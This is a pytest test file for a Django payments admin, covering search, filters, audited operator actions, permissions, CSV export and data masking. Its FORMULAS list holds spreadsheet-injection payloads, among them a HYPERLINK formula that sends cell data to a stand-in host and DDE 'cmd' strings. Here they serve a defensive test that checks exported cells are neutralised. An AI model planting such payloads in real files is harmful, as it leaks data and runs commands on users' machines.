"""The back office, through Django's test client (the browser suite is tests/browser)."""

import csv
import io

import pytest
from django.contrib import messages
from django.contrib.auth.models import User
from django.contrib.messages import get_messages
from django.urls import reverse
from django.utils import timezone

from payments.admin.outcomes import action_outcome
from payments.logformat import mask_phone
from payments.models import OperatorAction, OperatorLanguage, Payment, PaymentStatus
from payments.store import change_payment
from tests.factories import make_payment, operator
from tests.helpers import SEED_URL, post_json

pytestmark = pytest.mark.django_db

CHANGELIST = "/admin/payments/payment/"


@pytest.fixture
def paid(api, click) -> Payment:
    post_json(api, "/payment/click", {"amount": 150000000, "qr_code": "880101698207133392"})
    return Payment.objects.get()


def test_list_shows_uzs_with_thousands_badges_and_ids(staff, paid) -> None:
    page = staff.get(CHANGELIST).content.decode()
    assert "1\u00a0500\u00a0000.00" in page
    assert 'class="badge"' in page
    assert str(paid.transaction_id) in page
    assert paid.provider_payment_id in page


@pytest.mark.parametrize(
    "field", ["transaction_id", "provider_payment_id", "qr_code", "payer_phone"]
)
def test_one_search_box_finds_a_payment_by_any_id(staff, paid, api, field) -> None:
    post_json(api, "/payment/click", {"amount": 500, "qr_code": "7700112233"})  # another one
    term = str(getattr(paid, field))
    page = staff.get(CHANGELIST, {"q": term}).content.decode()
    assert str(paid.transaction_id) in page
    assert "7700112233" not in page


def test_search_by_rrn_finds_a_humo_payment(staff, api, pinpad) -> None:
    rrn = post_json(api, "/payment/xumo", {"amount": 50000})["data"]["ppt_id"]
    page = staff.get(CHANGELIST, {"q": rrn}).content.decode()
    assert Payment.objects.get().transaction_id.hex[:8] in page


def test_filters_and_date_range(staff, paid) -> None:
    today = timezone.localdate(paid.created_at).isoformat()
    assert str(paid.transaction_id) in staff.get(CHANGELIST, {"status": "paid"}).content.decode()
    assert (
        str(paid.transaction_id) not in staff.get(CHANGELIST, {"status": "failed"}).content.decode()
    )
    inside = staff.get(CHANGELIST, {"created_at_from": today, "created_at_to": today})
    assert str(paid.transaction_id) in inside.content.decode()
    outside = staff.get(
        CHANGELIST, {"created_at_from": "2020-01-01", "created_at_to": "2020-01-31"}
    )
    assert str(paid.transaction_id) not in outside.content.decode()


def test_the_list_runs_a_bounded_number_of_queries(
    staff, api, click, django_assert_max_num_queries
) -> None:
    for i in range(30):
        post_json(api, "/payment/click", {"amount": 500, "qr_code": f"77001122{i:02d}"})
    with django_assert_max_num_queries(12):
        assert staff.get(CHANGELIST).status_code == 200


def test_the_payment_page_tells_its_story(staff, paid, api) -> None:
    post_json(
        api, "/payment/click_confirm", {"payment_id": paid.provider_payment_id, "qrcode": SEED_URL}
    )
    page = staff.get(reverse("admin:payments_payment_change", args=[paid.pk])).content.decode()
    assert "Story" in page
    assert "Processing → Paid" in page
    assert "fiscal receipt: Waiting for the receipt → Submitted" in page
    assert "click_pass/payment" in page  # the journal
    assert "[redacted]" in page  # the Auth header, as journaled
    assert 'class="mono"' in page
    # The actions this operator may run and that apply: a paid payment with its receipt on
    # file can be reversed, not settled by hand nor sent to the fiscal office again.
    assert 'data-action="reverse_payments"' in page
    assert 'data-action="check_status"' in page
    assert 'data-action="retry_fiscal"' not in page
    assert 'data-action="settle_by_hand"' not in page


def test_a_humo_page_shows_the_slip_and_links_purchase_and_reversal(staff, api, pinpad) -> None:
    rrn = post_json(api, "/payment/xumo", {"amount": 50000})["data"]["ppt_id"]
    post_json(api, "/payment/xumo", {"amount": 50000, "request_id": rrn, "is_return": True})
    purchase = Payment.objects.get(operation="purchase")
    reversal = Payment.objects.get(operation="reversal")
    page = staff.get(reverse("admin:payments_payment_change", args=[purchase.pk])).content.decode()
    assert "ОДОБРЕНО" in page
    assert (
        f'reversed by <a href="{reverse("admin:payments_payment_change", args=[reversal.pk])}"'
        in page
    )


def test_nothing_can_be_added_edited_or_deleted(staff, paid) -> None:
    assert staff.get("/admin/payments/payment/add/").status_code == 403
    change = reverse("admin:payments_payment_change", args=[paid.pk])
    staff.post(change, {"amount": 1, "status": "failed"})
    paid.refresh_from_db()
    assert (paid.amount, paid.status) == (150000000, PaymentStatus.PAID)
    assert staff.get(reverse("admin:payments_payment_delete", args=[paid.pk])).status_code == 403
    assert staff.get("/admin/payments/providerexchange/").status_code == 404  # not registered


def run_action(client, action: str, payment: Payment, **form: str):
    data = {"action": action, "_selected_action": [payment.pk], **form}
    return client.post(CHANGELIST, data)


def test_an_action_first_asks_for_confirmation_and_a_reason(staff, paid, click) -> None:
    page = run_action(staff, "check_status", paid)
    assert page.status_code == 200
    assert "Nothing is charged" in page.content.decode()
    requests_before = len(click.stats()["requests"])
    run_action(staff, "check_status", paid, confirmed="yes", reason="")  # no reason: refused
    assert len(click.stats()["requests"]) == requests_before
    assert not OperatorAction.objects.exists()


def test_check_status_calls_the_provider_and_is_audited(staff, paid, click) -> None:
    response = run_action(staff, "check_status", paid, confirmed="yes", reason="customer called")
    assert response.status_code == 302
    assert response["Location"] == f"/admin/payments/payment/{paid.pk}/change/"  # back to it
    shown = list(get_messages(response.wsgi_request))
    assert [(m.level, str(m)) for m in shown] == [
        (messages.INFO, f"Payment {paid.transaction_id}: still Paid (the provider said: 2)")
    ]
    audit = OperatorAction.objects.get()
    assert (audit.user.username, audit.action, audit.reason) == (
        "op",
        "check_status",
        "customer called",
    )
    assert "still Paid" in action_outcome(audit)
    assert click.stats()["requests"][-1].startswith("GET payment/status")


def test_retry_fiscal_resends_a_refused_receipt(staff, paid, click, api) -> None:
    click.payments[int(paid.provider_payment_id)].status = -2
    post_json(
        api, "/payment/click_confirm", {"payment_id": paid.provider_payment_id, "qrcode": SEED_URL}
    )
    click.payments[int(paid.provider_payment_id)].status = 2
    run_action(staff, "retry_fiscal", paid, confirmed="yes", reason="OFD was down")
    paid.refresh_from_db()
    assert paid.fiscal_status == "submitted"
    assert paid.events.last().actor == "op"


def test_reverse_gives_the_money_back(staff, paid, click) -> None:
    run_action(staff, "reverse_payments", paid, confirmed="yes", reason="wrong amount")
    paid.refresh_from_db()
    assert paid.status == PaymentStatus.REVERSED
    assert click.payments[int(paid.provider_payment_id)].status == -2
    assert action_outcome(OperatorAction.objects.get()) == "Reversed"


def test_settle_by_hand_needs_a_status_and_a_reason(staff, api, click) -> None:
    post_json(api, "/payment/click", {"amount": 500, "qr_code": "9905123456"})
    unknown = Payment.objects.get()
    run_action(staff, "settle_by_hand", unknown, confirmed="yes", reason="seen in CLICK cabinet")
    unknown.refresh_from_db()
    assert unknown.status == PaymentStatus.UNKNOWN  # no status chosen
    run_action(
        staff,
        "settle_by_hand",
        unknown,
        confirmed="yes",
        reason="seen in CLICK cabinet",
        status="failed",
    )
    unknown.refresh_from_db()
    assert unknown.status == PaymentStatus.FAILED
    step = unknown.events.last()
    assert (step.reason, step.reason_data) == ("by_hand", {"words": "seen in CLICK cabinet"})


def test_an_action_refused_by_the_service_is_audited_as_refused(staff, paid) -> None:
    run_action(staff, "settle_by_hand", paid, confirmed="yes", reason="oops", status="failed")
    paid.refresh_from_db()
    assert paid.status == PaymentStatus.PAID
    assert (
        action_outcome(OperatorAction.objects.get())
        == "not done, because it is no longer open (it is Paid)"
    )


def test_a_user_without_the_permission_does_not_see_or_run_the_action(client, paid, click) -> None:
    client.force_login(operator("check_status"))
    page = client.get(CHANGELIST).content.decode()
    assert 'value="check_status"' in page
    assert 'value="reverse_payments"' not in page
    run_action(client, "reverse_payments", paid, confirmed="yes", reason="x")
    paid.refresh_from_db()
    assert paid.status == PaymentStatus.PAID


def exported(client, **filters) -> list[list[str]]:
    response = client.get(reverse("admin:payments_export"), filters)
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_csv_export_of_the_filtered_list(client, paid, api, click) -> None:
    client.force_login(operator("export_payments"))
    post_json(api, "/payment/click", {"amount": 500, "qr_code": "99015017000001"})  # failed
    rows = exported(client, status="paid")
    assert rows[0][:4] == ["created at", "provider", "amount, UZS", "status"]
    assert len(rows) == 2
    assert rows[1][2:4] == ["1500000.00", "paid"]


def test_the_csv_is_headed_in_the_operators_language_and_its_values_stay(client, paid) -> None:
    user = operator("export_payments")
    OperatorLanguage.objects.create(user=user, language="ru")
    client.force_login(user)
    rows = exported(client)
    assert rows[0][:4] == ["создан", "провайдер", "сумма, сум", "статус"]
    assert rows[1][2:4] == ["1500000.00", "paid"]  # as stored: a file for sums and scripts


FORMULAS = [
    '=HYPERLINK("http://x.example/"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("code", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(client, code: str) -> None:
    """Uzum codes take any printable text. A spreadsheet reads a cell starting with = + - @
    (or a tab or carriage return before one) as a formula; with an apostrophe before it, it
    shows the text as it was stored (OWASP's CSV injection guidance)."""
    make_payment(provider="uzum", qr_code=code, status=PaymentStatus.PAID)
    client.force_login(operator("export_payments"))
    header, row = exported(client)
    cell = row[header.index(str(Payment._meta.get_field("qr_code").verbose_name))]
    assert cell == "'" + code
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_export_needs_its_own_permission(staff, paid) -> None:
    assert staff.get(reverse("admin:payments_export")).status_code == 403
    assert "Export CSV" not in staff.get(CHANGELIST).content.decode()


def test_phones_and_cards_are_masked_unless_the_operator_may_see_personal_data(
    client, paid
) -> None:
    phone, card = paid.payer_phone, paid.masked_card
    assert phone
    assert card
    client.force_login(operator("export_payments"))
    row = exported(client)[1]
    assert row[-2:] == [phone[:5] + "*" * (len(phone) - 7) + phone[-2:], "*" * 12 + card[-4:]]
    assert phone not in ",".join(row)
    User.objects.filter(username="op").delete()
    client.force_login(operator("export_payments", "view_personal_data"))
    assert exported(client)[1][-2:] == [phone, card]


def test_a_payments_page_masks_the_phone_unless_the_operator_may_see_personal_data(
    client, paid
) -> None:
    """As in the logs and the CSV: masked in its field and in the journal's answers, whole
    for whoever has `view_personal_data`."""
    phone, page_of = paid.payer_phone, reverse("admin:payments_payment_change", args=[paid.pk])
    assert paid.exchanges.filter(response_body__contains=phone).exists()  # CLICK said it
    client.force_login(operator())
    page = client.get(page_of).content.decode()
    assert phone not in page
    assert mask_phone(phone) in page
    User.objects.filter(username="op").delete()
    client.force_login(operator("view_personal_data"))
    assert client.get(page_of).content.decode().count(phone) >= 2  # the field, the answer


def test_overview_shows_todays_totals_and_what_needs_a_person(staff, paid, api, click) -> None:
    post_json(api, "/payment/click", {"amount": 500, "qr_code": "9905123456"})  # unknown
    unknown = Payment.objects.get(status=PaymentStatus.UNKNOWN)
    change_payment(paid, reason="x", needs_attention=False)
    page = staff.get(reverse("admin:payments_overview")).content.decode()
    assert (
        "<td>CLICK</td><td>Purchase</td><td>Paid</td><td>1</td><td>1\u00a0500\u00a0000.00</td>"
        in page
    )
    assert str(unknown.transaction_id) in page
